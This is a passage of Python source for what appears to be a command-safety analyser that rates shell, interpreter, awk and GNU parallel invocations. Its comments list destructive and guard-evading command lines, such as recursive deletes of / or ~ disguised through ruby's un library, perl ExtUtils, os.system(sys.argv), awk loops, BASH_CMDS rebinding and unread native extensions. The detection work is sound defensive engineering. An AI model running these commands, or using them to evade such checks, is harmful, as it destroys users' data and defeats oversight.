    if src is None or dest is None or (dest.dynamic and "%" not in dest.text):
        return
    prog = _win_program_of(cmd, src)
    if prog is None:
        return
    target = dest.text.strip("'\"")
    if name in _RENAMERS and not re.search(r"[\\/]", target):
        # `ren C:\\t\\a.exe b.exe`: the new name in the same folder
        folder = re.split(r"[\\/](?=[^\\/]*\Z)", src.text.strip("'\""))
        target = (folder[0] + "\\" if len(folder) > 1 else "") + target
    if target.endswith(("\\", "/")):
        target += prog
    bind_file(cmd.scope, target, prog)


def bash_cmds_assigned(scope: Scope, name: str, value: str) -> None:
    """`BASH_CMDS[ls]=/bin/rm`, `BASH_CMDS=([ls]=/bin/rm)`: bash's command hash table
    written directly, as `hash -p` (r15)."""
    if name.startswith("BASH_CMDS["):
        key = name[len("BASH_CMDS[") :].rstrip("]").strip("'\"")
        prog = command_name(value.strip("'\""))
        if prog:
            bind_name(scope, key, prog)
        return
    for m in re.finditer(r"\[['\"]?([\w.+-]+)['\"]?\]=['\"]?([^\s'\")]+)", value):
        prog = command_name(m.group(2))
        if prog:
            bind_name(scope, m.group(1), prog)


@handles("trap")
def _trap(cmd: Cmd) -> None:
    ops = cmd.operands()
    if ops and ops[0].text not in ("-", ""):
        found = cmd.scope.nested(ops[0].text, "bash", ops[0])
        cmd.scope.include(found)
        hooks = {o.text.upper().removeprefix("SIG") for o in ops[1:]} & {"DEBUG", "RETURN", "ERR"}
        if hooks and (hidden := unreadable_program(found)) is not None:
            # (r18) `trap './x.sh' DEBUG`: a hook on every later command (session 18)
            cmd.add(
                C,
                "config-exec",
                f"trap runs {hidden} on every {min(hooks)} event, which the analyser cannot read",
                ops[0],
            )


_ZSH_HOOKS = frozenset(
    names("chpwd periodic precmd preexec zshaddhistory zshexit zsh_directory_name")
)


@handles("add-zsh-hook")
def _add_zsh_hook(cmd: Cmd) -> None:
    """(r18) `add-zsh-hook precmd ./x.sh`: the named command runs on every later prompt
    (a session hook, session 18): critical when the analyser cannot read it."""
    ops = [w for w in cmd.args if not w.text.startswith("-")]
    cmd.add(M, "env-hook", "add-zsh-hook changes what runs on a later shell event")
    if (
        len(ops) < 2
        or ops[0].text not in _ZSH_HOOKS
        or any(w.text.startswith("-") and "d" in w.text.lower() for w in cmd.args)
    ):
        return
    found = cmd.scope.nested(ops[1].text, "bash", ops[1])
    if (hidden := unreadable_program(found)) is not None:
        cmd.add(
            C,
            "config-exec",
            f"add-zsh-hook runs {hidden} on every {ops[0].text}, which the analyser cannot read",
            ops[1],
        )
        return
    cmd.scope.include([f for f in found if f.level >= D])


INTERPRETER = re.compile(
    r"^(python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*"
    r"|luajit|rscript|deno|bun|tclsh|jimsh|jshell|osascript|groovy|scala|julia|irb)$",
    re.I,
)
_CODE_FLAGS = {
    "python": ("-c",),
    "perl": ("-e", "-E"),
    "ruby": ("-e",),
    "node": ("-e", "--eval", "-p", "--print"),
    "php": ("-r",),
    "lua": ("-e",),
    "rscript": ("-e",),
    "deno": ("eval",),
    "bun": ("-e", "--eval"),
    "osascript": ("-e",),
    "groovy": ("-e",),
    "julia": ("-e", "-E", "--eval", "--print"),
    "scala": ("-e",),
}
_PY_TEST_MODULES = frozenset(names("pytest unittest doctest"))
# (n19u) Options of interpreters that take the next word as their value (so the word is no
# script): php's ini file and settings, lua's library, node's module hooks.
_VALUED = {
    "php": frozenset(("-c", "-d", "-z", "-t")),
    "lua": frozenset(("-l",)),
    "node": frozenset(("--import", "--loader", "--input-type", "-C", "--conditions")),
    "ruby": frozenset(("-C", "-E", "--encoding")),
    "perl": frozenset(("-x",)),
}
_PY_MODULES_SAFE = frozenset(
    names(
        """
        pytest unittest mypy json.tool pydoc doctest py_compile compileall timeit platform site
        tabnanny pyflakes flake8 pylint ruff black isort sysconfig this calendar tokenize dis
        pstats ensurepip
        """
    )
)


# Code that hands the current input line (`$_`) to the shell.
_RUNS_LINE = re.compile(
    r"\b(?:system|exec|spawn)\s*\(?\s*\$_\b|`\s*\$_\s*`|\bqx\s*[({/|!]\s*\$_\b"
    r"|%x\s*[({]\s*\$_\b|\bopen\s*\(?\s*\w*\s*,?\s*\$_\s*\.\s*[\"']\s*\|"
)


def _joined_code_args(args: list[Word], i: int) -> Word | None:
    """The program of several `-e CODE` arguments from index `i`, joined by newlines, when
    there are more than one (None otherwise: the single-argument path handles it)."""
    parts: list[Word] = []
    while i + 1 < len(args) and re.fullmatch(r"-[a-zA-Z]*[eE]", args[i].text):
        parts.append(args[i + 1])
        i += 2
        while i < len(args) and re.fullmatch(r"-[a-zA-Z]*[lnpaws]", args[i].text):
            i += 1
    if len(parts) < 2:
        return None
    return Word(
        "\n".join(p.text for p in parts),
        parts[0].start,
        parts[-1].end,
        any(p.dynamic for p in parts),
    )


# Ruby's `un` library (`ruby -run -e rm -- -rf /`): `-e NAME` runs the file utility NAME
# with the arguments after it, as the coreutils command of that name (h17).
_UN_UTILITIES = frozenset(names("cp ln mv rm mkdir rmdir install chmod touch"))
_UN_OTHERS = frozenset(names("httpd help colorize wait_writable mkmf"))


def _ruby_un(cmd: Cmd) -> bool:
    """Judge `ruby -run -e UTILITY -- ARGS` (also `-r un`, `--require=un`) as `UTILITY ARGS`,
    `-e httpd -- [OPTS] DIR` as a file server of DIR. True when handled."""
    args = cmd.args
    texts = [w.text for w in args]
    loads = any(
        t in ("-run", "--require=un")
        or (t in ("-r", "--require") and texts[i + 1 : i + 2] == ["un"])
        for i, t in enumerate(texts)
    )
    if not loads:
        return False
    at = next((i for i, t in enumerate(texts[:-1]) if t == "-e"), None)
    if at is None or texts[at + 1] not in _UN_UTILITIES | _UN_OTHERS:
        return False
    util = args[at + 1]
    rest = list(args[at + 2 :])
    if rest and rest[0].text == "--":
        rest = rest[1:]
    if util.text in _UN_UTILITIES:
        cmd.judge([Word(util.text, util.start, util.end), *rest], cmd.stdin)
    elif util.text == "httpd":
        from aintern_ls.safety.network import local_only, serve_folder

        folder = next((w for w in rest if re.match(r"[/~.]|[A-Za-z]:[\\/]", w.text)), None)
        serve_folder(cmd, folder, not local_only(cmd))
    elif util.text == "mkmf":
        cmd.add(M, "write", "ruby's mkmf writes a Makefile")
    return True


# ExtUtils::Command's functions (they act on @ARGV) as the shell utility each one is.
_EXTUTILS = {
    "rm_rf": ("rm", "-rf"),
    "rm_r": ("rm", "-r"),
    "rm_f": ("rm", "-f"),
    "mv": ("mv",),
    "cp": ("cp",),
    "touch": ("touch",),
    "eqtime": ("touch",),
    "chmod": ("chmod",),
    "mkpath": ("mkdir", "-p"),
    "cat": ("cat",),
    "dos2unix": ("dos2unix",),
    "test_f": ("test", "-f"),
    "test_d": ("test", "-d"),
}
_EXTUTILS_CALL = re.compile(r"\s*(\w+)\s*(?:\(\s*\))?\s*;?\s*")


def _perl_extutils(cmd: Cmd) -> bool:
    """`perl -MExtUtils::Command -e rm_rf -- /` (n18u): the function named by -e acts on
    the arguments after it, as the shell utility it stands for (`rm -rf /`). True when
    handled."""
    texts = [w.text for w in cmd.args]
    if not any(t.startswith("-MExtUtils::Command") for t in texts):
        return False
    at = next((i for i, t in enumerate(texts[:-1]) if t == "-e"), None)
    if at is None or cmd.args[at + 1].dynamic:
        return False
    m = _EXTUTILS_CALL.fullmatch(texts[at + 1])
    if m is None or m.group(1) not in _EXTUTILS:
        return False
    fn = cmd.args[at + 1]
    rest = list(cmd.args[at + 2 :])
    if rest and rest[0].text == "--":
        rest = rest[1:]
    util = [Word(t, fn.start, fn.end) for t in _EXTUTILS[m.group(1)]]
    if util[-1].text.startswith("-"):
        rest.insert(0, util.pop())  # the option goes among the arguments (`rm -rf …`)
    cmd.judge([*util, *rest], cmd.stdin)
    return True


_PHP_AUTO = re.compile(r"\A(?:-d)?(?:auto_prepend_file|auto_append_file)=(.+)\Z", re.S)


def _php_prepend(cmd: Cmd) -> None:
    """`php -d auto_prepend_file=FILE …`: PHP runs FILE before (or after) every script: a
    file this block wrote is judged as PHP code, any other is code nobody here read."""
    args = cmd.args
    for i, w in enumerate(args):
        m = _PHP_AUTO.match(w.text)
        if m is None or not (w.text.startswith("-d") or (i and args[i - 1].text == "-d")):
            continue
        path = m.group(1).strip("'\"")
        code = None if w.dynamic else written_text(cmd.scope, path)
        if code is not None:
            cmd.scope.include(inline.code_findings(cmd.scope, code, w, "php", "php auto-prepend"))
        elif path.lower() not in ("", "none"):
            cmd.add(C, "preload", f"php runs {path} before every script, code nobody here read", w)


def _interpreter(cmd: Cmd) -> None:
    family = re.sub(r"[0-9.]+$", "", cmd.name.lower()).replace("nodejs", "node")
    family = {"pypy": "python", "luajit": "lua", "jimsh": "tclsh"}.get(family, family)
    args = cmd.args
    if len(args) == 1 and args[0].text in (*VERSION_ARGS, "-v", "--v"):
        return
    flags = _CODE_FLAGS.get(family, ())
    letters = "eE" if family in ("perl", "ruby", "osascript") else ""
    if unglued(cmd, letters + "".join(f[1] for f in flags if len(f) == 2 and f[0] == "-")):
        return
    if family == "php" and "auto_" in cmd.argv.joined_low:
        _php_prepend(cmd)  # (n18u) `-d auto_prepend_file=/tmp/x.php`: code run first
    if family == "php" and any(w.text == "-S" or w.text.startswith("-S") for w in args):
        from aintern_ls.safety.network import php_server

        php_server(cmd)  # `php -S 0.0.0.0:80 -t /`: a web server, judged by what it serves
        return
    if family == "ruby" and _ruby_un(cmd):
        return
    if family == "perl" and "extutils" in cmd.argv.joined_low and _perl_extutils(cmd):
        return
    if family in ("perl", "ruby"):
        inline.in_place_targets(cmd)  # `perl -pi -e … ~/.profile`: the files it rewrites
    # (syntax checks, `node --check`, `ruby -c`, `php -l`, are settled by the dispatcher,
    # which also sees a `-r` preload that would run code)
    i = 0
    while i < len(args):
        t = args[i].text
        if family in ("osascript", "perl", "ruby") and re.fullmatch(r"-[a-zA-Z]*[eE]", t):
            code = _joined_code_args(args, i)
            if code is not None:
                # `osascript -e … -e …`, `perl -e … -e …`: every -e is one line of one program.
                if any(re.fullmatch(r"-(?![mMIxr])[a-zA-Z]*i\S*", a.text) for a in args[: i + 1]):
                    cmd.add(M, "write", f"{cmd.name} -i edits files in place")
                _run_code_arg(cmd, code, family)
                return
        if family == "python" and t == "-m" and i + 1 < len(args):
            module = args[i + 1].text
            if module == "pytest" and "--basetemp" not in cmd.argv.joined_low:
                # (h20) `python -m pytest --co`: judged as pytest is (its listing modes)
                cmd.judge([Word("pytest", args[i + 1].start, args[i + 1].end), *args[i + 2 :]])
                return
            if module in _PY_TEST_MODULES or module.startswith("pytest"):
                # (h19) `python -m pytest`, `-m unittest`, `-m doctest f.py`: the project's
                # tests run (its code): moderate, like the runner itself
                cmd.add(M, "test-suite", f"python -m {module} runs the project's tests")
                if module.startswith("pytest") and "--basetemp" in cmd.argv.joined_low:
                    # (n19u) `python -m pytest --basetemp=~`: judged as pytest is
                    cmd.judge([Word("pytest", args[i + 1].start, args[i + 1].end), *args[i + 2 :]])
                return
            if module in _PY_MODULES_SAFE:
                return
            cmd.judge([Word(module, args[i + 1].start, args[i + 1].end), *args[i + 2 :]], cmd.stdin)
            return
        if (
            family in ("perl", "ruby")
            and re.fullmatch(r"-[a-zA-Z]*[eE]", t)
            and i + 1 < len(args)
            and cmd.stdin.kind != STDIN_NONE
            and _RUNS_LINE.search(args[i + 1].text)
            and any(re.fullmatch(r"-[a-zA-Z]*[np][a-zA-Z]*", a.text) for a in args[: i + 1])
        ):
            # `perl -pe 'system($_)' <<< 'rm -rf ~'`: every input line runs as a command.
            run_code_from_stdin(cmd, "bash")
        if t in flags or (
            family == "python"
            and t.startswith("-")
            and not t.startswith("--")
            and t.endswith("c")
            and len(t) > 2
        ):
            if family == "deno" and t == "eval":
                # (n19u) `deno eval -p CODE`, `deno eval --ext=ts CODE`: eval's own options
                while (
                    i + 1 < len(args)
                    and args[i + 1].text.startswith("-")
                    and len(args[i + 1].text) > 1
                ):
                    valued = args[i + 1].text in ("--ext", "--config", "-c", "--import-map")
                    i += 2 if valued else 1
            if i + 1 < len(args):
                mark = len(cmd.scope.findings)
                _run_code_arg(cmd, args[i + 1], family)
                _argv_targets(cmd, args[i + 1], args[i + 2 :], mark)
            return
        if family in ("perl", "ruby") and re.fullmatch(r"-(?![mMIxr])[a-zA-Z]*i\S*", t):
            cmd.add(M, "write", f"{cmd.name} -i edits files in place")
        if family in ("perl", "ruby") and re.fullmatch(r"-[a-zA-Z]*[eE]", t) and i + 1 < len(args):
            mark = len(cmd.scope.findings)
            _run_code_arg(cmd, args[i + 1], family)
            _argv_targets(cmd, args[i + 1], args[i + 2 :], mark)
            if "i" in t:
                cmd.add(M, "write", f"{cmd.name} -i edits files in place")
            return
        if t.startswith("--") and "=" in t and t.split("=", 1)[0] in flags:
            # (n19u) `node --eval='…'`, `node --print=…`, `bun --eval=…`: the code glued
            code = Word(t.split("=", 1)[1], args[i].start, args[i].end, args[i].dynamic)
            mark = len(cmd.scope.findings)
            _run_code_arg(cmd, code, family)
            _argv_targets(cmd, code, args[i + 1 :], mark)
            return
        if (
            family in ("node", "bun", "lua", "php")
            and re.fullmatch(r"-[a-zA-Z]{2,}", t)
            and any(len(f) == 2 and t.endswith(f[1]) for f in flags)
            and i + 1 < len(args)
        ):
            # (n19u) `node -pe CODE`: a cluster of flags ending in the code flag
            mark = len(cmd.scope.findings)
            _run_code_arg(cmd, args[i + 1], family)
            _argv_targets(cmd, args[i + 1], args[i + 2 :], mark)
            return
        if t.startswith("-") and len(t) > 1:
            takes_value = t in ("-W", "-X", "-I", "-r", "--require", "-M") or t in _VALUED.get(
                family, ()
            )
            if family == "python" and t == "-I":
                takes_value = False  # python's -I is isolated mode, a flag
            i += 2 if takes_value or (family == "osascript" and t in ("-l", "-s")) else 1
            continue
        if t == "run" and family in ("deno", "bun"):
            i += 1
            continue
        if family == "deno" and t in _DENO_SUBCOMMANDS:
            _deno_subcommand(cmd, t, [w.text for w in args[i + 1 :]])
            return
        if t == "-":
            break
        if t in STDIN_FILES and not args[i].dynamic and cmd.stdin.kind == STDIN_STATIC:
            break  # (n19u) `perl /dev/stdin <<< CODE`: the script is the here-string
        if re.match(r"^https?://", t):
            cmd.add(C, "remote-code", f"{cmd.name} runs a script from the network", args[i])
        else:
            script_operand(cmd, args[i])
        return
    mark = len(cmd.scope.findings)
    run_code_from_stdin(cmd, family)
    if cmd.stdin.kind == STDIN_STATIC and i < len(args):
        # `python3 - /etc <<'EOF' … sys.argv[1] …`: the arguments after `-` (n18u)
        _argv_targets(cmd, Word(cmd.stdin.text, 0, 0), args[i + 1 :], mark)


# (h19) deno's own subcommands (not a script's name): the checkers and printers only read;
# `fmt` without --check and `lint --fix` rewrite files; tasks, tests and installs run or
# fetch the project's code.
_DENO_READS = frozenset(names("check info doc lint types completions"))
_DENO_SUBCOMMANDS = _DENO_READS | frozenset(
    names("fmt task test bench compile bundle install add remove outdated upgrade cache")
)


def _deno_subcommand(cmd: Cmd, sub: str, rest: list[str]) -> None:
    if sub == "fmt":
        if "--check" not in rest:
            cmd.add(M, "write", "deno fmt rewrites files")
    elif sub in _DENO_READS:
        if sub == "lint" and "--fix" in rest:
            cmd.add(M, "write", "deno lint --fix rewrites files")
    elif sub in ("test", "bench"):
        cmd.add(M, "test-suite", f"deno {sub} runs the project's tests (its code)")
    elif sub == "task":
        cmd.add(M, "run-script", "deno task runs a project script")
    elif sub in ("compile", "bundle"):
        cmd.add(M, "build", f"deno {sub} writes build output")
    else:
        cmd.add(M, "install", f"deno {sub} installs or changes packages")


# (n18u) inline code reading its command-line arguments: the words after the code are what
# a delete of "files chosen at run time" gets (`python -c 'shutil.rmtree(sys.argv[1])' /etc`)
_ARGV_REF = re.compile(
    r"sys\.argv|process\.argv|Deno\.args|\bARGV\b|@ARGV|\$ARGV\[|\$argv\b|commandArgs|os\.Args"
)


def _argv_targets(cmd: Cmd, code: Word, rest: Sequence[Word], mark: int) -> None:
    if not rest or code.dynamic or not _ARGV_REF.search(code.text):
        return
    if any(
        f.rule == "eval-dynamic" and "computed at run time" in f.reason
        for f in cmd.scope.findings[mark:]
    ):
        # (u22, red team F13) `python3 -c 'os.system(sys.argv[1])' 'rm -rf ~'`: the command
        # line the code runs is made of the words after it (one word, or all of them)
        given = [w for w in rest if w.text != "--" and not w.dynamic][:8]
        lines = dict.fromkeys(
            [*(w.text for w in given if " " in w.text), " ".join(w.text for w in given)]
        )
        for line in list(lines)[:9]:
            if line.strip():
                cmd.scope.include(cmd.scope.nested(line, "bash", given[0], -1))
    deletes = [
        f
        for f in cmd.scope.findings[mark:]
        if f.level == D
        and (  # (a delete of files chosen at run time: the code's, or a shell string's)
            (f.rule == "code-delete" and f.reason.endswith("deletes files"))
            or (f.rule == "rm" and f.reason == "deletes directories recursively")
        )
    ]
    if not deletes:
        return
    ops = [w for w in rest if w.text != "--" and not w.text.startswith("-") and not w.dynamic]
    if ops:
        cmd.judge(
            [
                Word("rm", ops[0].start, ops[0].start),
                Word("-rf", ops[0].start, ops[0].start),
                *ops[:16],
            ]
        )


for _n in names(
    """
    python python2 python3 pypy pypy3 perl ruby node nodejs php lua luajit Rscript rscript deno
    tclsh jimsh osascript irb jshell groovy julia
    python3.8 python3.9 python3.10 python3.11 python3.12 python3.13 python3.14
    python2.7 lua5.1 lua5.2 lua5.3 lua5.4 luajit2 ruby2.7 ruby3 ruby3.0 ruby3.1 ruby3.2 ruby3.3
    ruby3.4 perl5 perl5.30 perl5.32 perl5.34 perl5.36 perl5.38 perl5.40 php5 php7 php7.4 php8
    php8.0 php8.1 php8.2 php8.3 php8.4 node16 node18 node20 node22 node24 nodejs18 nodejs20
    nodejs22 scala
    """
):
    handles(_n)(_interpreter)


# gawk's own extensions (shipped in its extension folder): loading one is not opaque.
_GAWK_EXTENSIONS = frozenset(
    names(
        """
        filefuncs fnmatch fork inplace intdiv ordchr readdir readdir_test readfile revoutput
        revtwoway rwarray time testext json gd mpfr
        """
    )
)
_AWK_LOAD = re.compile(r"@load\s+\"([^\"]*)\"")


def _awk_extension(cmd: Cmd) -> bool:
    """`gawk -l ./evil.so …`, `gawk '@load "/tmp/x"; …'`: gawk loads a shared library
    (native code) by name or path; one that is not gawk's own is opaque (n13u). True when
    a finding was added."""
    loaded: list[tuple[str, Word]] = []
    args = cmd.args
    for i, w in enumerate(args):
        t = w.text
        if t in ("-l", "--load") and i + 1 < len(args):
            loaded.append((args[i + 1].text, args[i + 1]))
        elif t.startswith("--load="):
            loaded.append((t[7:], w))
        elif t.startswith("-l") and len(t) > 2 and not t.startswith("--"):
            loaded.append((t[2:], w))
        elif "@load" in t:
            loaded.extend((m.group(1), w) for m in _AWK_LOAD.finditer(t))
    for lib, w in loaded:
        base = lib.rsplit("/", 1)[-1].removesuffix(".so")
        system_dir = lib.startswith(("/usr/lib", "/usr/local/lib", "/lib", "/usr/share/awk"))
        if (w.dynamic or "/" in lib or base not in _GAWK_EXTENSIONS) and not (
            system_dir and base in _GAWK_EXTENSIONS
        ):
            cmd.add(
                C, "config-exec", f"{cmd.name} loads the extension {lib}, native code unread", w
            )
            return True
    return False


@handles("awk", "gawk", "mawk", "nawk")
def _awk(cmd: Cmd) -> None:
    joined = cmd.argv.joined_low
    if ("-l" in joined or "@load" in joined) and _awk_extension(cmd):
        return
    if (script := cmd.option_value("-f", "--file")) is not None:
        if (shown := known_script(cmd, script)) is not None:
            # (n19u) `awk -f <(echo 'BEGIN{system(…)}')`, `awk -f /dev/stdin <<< …`
            cmd.scope.include(_code_findings_awk(cmd, shown))
            return
        if opaque_program(script, cmd.scope.source):
            # `awk -f "$F"`: a program file only known at run time (n11u)
            cmd.add(
                C, "eval-dynamic", f"{cmd.name} runs a program file only known at run time", script
            )
            return
        cmd.add(M, "local-script", f"{cmd.name} runs a program file")
        return
    if unglued(cmd, "e"):
        return  # `gawk -e'BEGIN{…}'` (safety-m9)
    # gawk's `-e PROG`/`--source PROG`
    source = cmd.option_value("-e", "--source")
    ops = cmd.operands(frozenset({"-F", "-v", "--field-separator", "--assign"}))
    if not ops and source is None:
        return
    prog = source if source is not None else ops[0]
    if opaque_program(prog, cmd.scope.source):
        # `awk "$PROG" data`, `gawk -e "$1"`: the program (which can call system()) is only
        # known at run time: opaque, like `python -c "$X"` (n11u)
        cmd.add(C, "eval-dynamic", f"{cmd.name} runs a program only known at run time", prog)
        return
    found = _code_findings_awk(cmd, prog)
    cmd.scope.include(found)
    if not prog.dynamic and "system" in prog.text:
        _awk_listing_runs(cmd, prog)


_AWK_STR = r'"(?:[^"\\]|\\.)*"'
# `"ls -A" | getline f`, `cmd | getline f` (cmd="ls"): lines of a command's output.
_AWK_GETLINE = re.compile(
    r"(" + _AWK_STR + r"|(?<![\w\"])[A-Za-z_]\w*)\s*\|\s*getline\s+([A-Za-z_]\w*)"
)
_AWK_ASSIGN = re.compile(r"\b([A-Za-z_]\w*)\s*=\s*(" + _AWK_STR + r")")
_AWK_SYSTEM = re.compile(r"\bsystem\s*\(((?:" + _AWK_STR + r"|[^()\"]|\([^()]*\))*)\)")


def _awk_listing_runs(cmd: Cmd, prog: Word) -> None:
    """`awk 'BEGIN { while (("ls -A" | getline f) > 0) system("rm -rf " f) }'`, `ls | awk
    '{ system("rm -rf " $0) }'`: awk runs a command once per line of a listing, exactly
    like `ls -A | xargs -d '\n' rm -rf`; judge it as that (a cwd listing deleted entry by
    entry is a cwd wipe)."""
    text = prog.text
    strings = dict((m.group(1), _awk_unquote(m.group(2))) for m in _AWK_ASSIGN.finditer(text))
    sources: dict[str, str | None] = {}  # variable -> listing command (None: awk's input)
    for m in _AWK_GETLINE.finditer(text):
        src = m.group(1)
        line = _awk_unquote(src) if src.startswith('"') else strings.get(src)
        if line is not None:
            sources[m.group(2)] = line
    for field in ("$0", "$1", "$NF"):
        sources[field] = None
    for m in _AWK_SYSTEM.finditer(text):
        parts = re.findall(_AWK_STR + r"|\$\w+|[A-Za-z_]\w*", m.group(1))
        prefix: list[str] = []
        for part in parts:
            if part.startswith('"'):
                prefix.append(_awk_unquote(part))
                continue
            if part not in sources:
                break
            line = "".join(prefix).rstrip().rstrip("'\"").rstrip()
            if not line:
                break
            xargs = Word("xargs", prog.start, prog.end)
            run = [Word(w.text, prog.start, prog.end) for w in split_words(line)]
            opts = [Word("-d", prog.start, prog.end), Word("\n", prog.start, prog.end)]
            listing = sources[part]
            if listing is None:
                if cmd.stdin.paths:
                    cmd.judge([xargs, *opts, *run], cmd.stdin)
            else:
                code = f"{listing} | xargs -d '\\n' {line}"
                cmd.scope.include(cmd.scope.nested(code, "bash", prog))
            break


def _awk_unquote(literal: str) -> str:
    return re.sub(r"\\(.)", r"\1", literal[1:-1])


def _code_findings_awk(cmd: Cmd, prog: Word) -> list[Finding]:
    preset = {}  # `-v name=value` assignments the program sees
    for i, w in enumerate(cmd.args[:-1]):
        if w.text in ("-v", "--assign") and "=" in cmd.args[i + 1].text:
            name, _, value = cmd.args[i + 1].text.partition("=")
            preset[name] = "\x00" if cmd.args[i + 1].dynamic else value
    found = inline.code_findings(
        cmd.scope, prog.text, prog, "awk", f"the {cmd.name} program", preset
    )
    if cmd.short("i") and cmd.has("-i", "inplace"):
        found.append(finding(M, "write", "edits files in place", prog))
        # `gawk -i inplace 'NR > 40' /etc/group`: the program decides what survives, so an
        # in-place edit of an account or system file is judged as overwriting it.
        from aintern_ls.safety.paths import write_target

        for w in cmd.args:
            if w is prog or w.dynamic or w.text.startswith("-") or w.text == "inplace":
                continue
            t = write_target(w.text, cmd.scope.cwds)
            if t is not None:
                found.append(finding(t.level, t.rule, f"rewrites {t.what} in place", w))
                break
    return found


# GNU parallel options that take a separate value (the word after them is not the command).
_PARALLEL_VALUED = frozenset(
    names(
        """
        -j -P --jobs -S --sshlogin --delay -n -N -I -a --arg-file --results --res --joblog
        --colsep -C --tmpdir --workdir --wd --halt --memfree --load --timeout --retries --env
        --basefile --bf --return --transferfile --tf --sshloginfile --slf -L --max-lines
        --max-args -E --eof -d --delimiter --tagstring --header
        """
    )
)


@handles("parallel")
def _parallel(cmd: Cmd) -> None:
    """GNU parallel: `parallel CMD ::: ARGS` runs CMD once per argument; with no CMD each
    argument is a command line of its own."""
    args = cmd.args
    seps = [i for i, w in enumerate(args) if w.text in (":::", "::::", ":::+")]
    end = seps[0] if seps else len(args)
    i = skip_options(cmd.args, 0, _PARALLEL_VALUED)
    template = list(args[i:end])
    inputs = [w for w in args[end + 1 :] if w.text not in (":::", "::::", ":::+")][:8]
    arg_file = next(
        (args[k + 1] for k in range(i - 1) if args[k].text in ("-a", "--arg-file")), None
    )
    files = list(inputs) if seps and args[seps[0]].text == "::::" else []
    if arg_file is not None:
        files.append(arg_file)
    if files:
        # `parallel rm -rf :::: /tmp/all`, `parallel -a /tmp/all rm -rf`: the arguments are
        # the file's lines; after `find / > /tmp/all` they are every listed path (f19).
        inputs = []
        for f in files:
            held = None if f.dynamic else listed_file(cmd.scope, f.text)
            if held is not None and not held.names_only:
                inputs += [Word(p.text, cmd.start, cmd.end) for p in held.paths if not p.dynamic]
        inputs = inputs[:8]
    elif not seps and cmd.stdin.kind == STDIN_STATIC and cmd.scope.family == "bash":
        # `echo / | parallel rm -rf`: without `:::` the arguments are the lines it reads.
        lines = [ln.strip() for ln in cmd.stdin.text[:4096].split("\n") if ln.strip()][:8]
        inputs = [Word(ln, cmd.start, cmd.end) for ln in lines]
    if not template:
        for w in inputs:
            cmd.scope.include(cmd.scope.nested(w.text, "bash", w))
        if not inputs and seps and args[seps[0]].text != "::::":
            cmd.add(M, "parallel", "parallel with an empty argument list")
        elif not inputs:
            cmd.add(C, "eval-dynamic", "parallel runs command lines it reads at run time")
        return
    if not inputs and not seps and cmd.scope.family == "bash":
        # `ls / | parallel rm -rf /{}`: the items are what the pipe lists (names of the
        # listed folder's entries when the lister prints bare names).
        inputs = [
            Word(w.text.rsplit("/", 1)[-1] if cmd.stdin.names_only else w.text, cmd.start, cmd.end)
            for w in cmd.stdin.paths
            if not w.dynamic
        ][:8]
    if all(re.fullmatch(r"\{\d*\}", w.text) for w in template):
        # `parallel {} ::: 'rm -rf ~'`, `parallel '{1}' ::: …`: the template is only the
        # placeholder, so each argument is the command line itself (safety-m9)
        if not inputs:
            cmd.add(C, "eval-dynamic", "parallel runs command lines it reads at run time")
        for w in inputs:
            cmd.scope.include(cmd.scope.nested(w.text, "bash", w))
        return
    items = inputs or [Word("{items}", cmd.start, cmd.end, dynamic=True)]
    if len(template) == 1 and " " in template[0].text and not template[0].dynamic:
        # `parallel 'rm -rf {}' ::: ~`: parallel hands its template to a shell, so a quoted
        # template is a command line (each item quoted into it, safety-m9)
        for item in items:
            if item.dynamic:
                cmd.add(C, "eval-dynamic", "parallel runs a template on unknown items")
                continue
            quoted = shlex.quote(item.text) if item.text != "~" else "~"
            text = " ".join(w.text.replace("{}", quoted) for w in template)
            if not any("{}" in w.text for w in template):
                text += " " + quoted
            where = Word(text, template[0].start, template[-1].end)
            cmd.scope.include(cmd.scope.nested(text, "bash", where))
        return
    for item in items:
        if any("{}" in w.text for w in template):
            words = [
                Word(w.text.replace("{}", item.text), w.start, w.end, w.dynamic or item.dynamic)
                for w in template
            ]
        else:
            words = [*template, item]
        cmd.judge(words)


# --- argv and string forwarders (GTFOBins "Shell"/"Command" entries, launchers) ----------

# name -> (options taking one value, options taking two, positionals before the command,
# whether the command is a shell string rather than argv). Unknown `--x=y`/`-x` options
# take no value. Only names no other module handles are listed here.
_FORWARDERS: dict[str, tuple[frozenset[str], frozenset[str], int, bool]] = {}


def _forwarder(
    spec: str, one: str = "", two: str = "", skip: int = 0, string: bool = False
) -> None:
    for n in names(spec):
        _FORWARDERS[n] = (frozenset(names(one)), frozenset(names(two)), skip, string)


_forwarder("linux32 linux64 i386 x86_64 uname26", "--uname-2.6")
_forwarder("toybox torify run-one cronic nq sem")
_forwarder(
    "setpriv",
    """--reuid --regid --ruid --rgid --euid --egid --groups --inh-caps --ambient-caps
    --bounding-set --securebits --pdeathsig --selinux-label --apparmor-profile
    --landlock-access --landlock-rule""",
)
_forwarder("choom", "-n --adjust -p --pid")
_forwarder("flatpak-spawn", "--env --forward-fd --directory --sandbox-expose")
_forwarder("openvt", "-c --console -u")
_forwarder("setuidgid s6-setuidgid envuidgid", skip=1)
_forwarder("envdir", skip=1)
_forwarder("softlimit", "-m -d -s -l -a -o -p -f -c -r -t")
_forwarder("daemonize", "-a -c -e -E -o -p -l -u")
_forwarder("timelimit", "-t -T -s -S")
_forwarder("retry", "-t --times -d --delay -u --until -w --while")
_forwarder("sandbox", "-t -l -H -T -W -X -w")
_forwarder("proot", "-r --rootfs -b --bind -m --mount -w --pwd --cwd -q --qemu -k --kernel-release")
_forwarder("schroot", "-c --chroot -u --user -d --directory")
_forwarder("lxc-attach", "-n --name -P --lxcpath -e --elevated-privileges -s --namespaces -v")
_forwarder("dotenv", "-e -f -v -c")
_forwarder("dotenvx", "-f --env-file -e --env --convention")
_forwarder(
    "bwrap",
    """--dev --proc --tmpfs --dir --remount-ro --chdir --uid --gid --hostname --unsetenv
    --seccomp --info-fd --exec-label --file-label --cap-add --cap-drop --perms --size
    --userns --userns2 --pidns --block-fd --sync-fd --lock-file --args""",
    """--bind --ro-bind --dev-bind --bind-try --ro-bind-try --dev-bind-try --symlink
    --setenv --file --bind-data --ro-bind-data --chmod""",
)


def _skip_forwarder_options(cmd: Cmd, one: frozenset[str], two: frozenset[str]) -> int:
    args = cmd.args
    i = 0
    while i < len(args):
        t = args[i].text
        if t == "--":
            return i + 1
        if t.startswith("-") and len(t) > 1:
            i += 3 if t in two else 2 if t in one else 1
            continue
        return i
    return i


def _forward(cmd: Cmd) -> None:
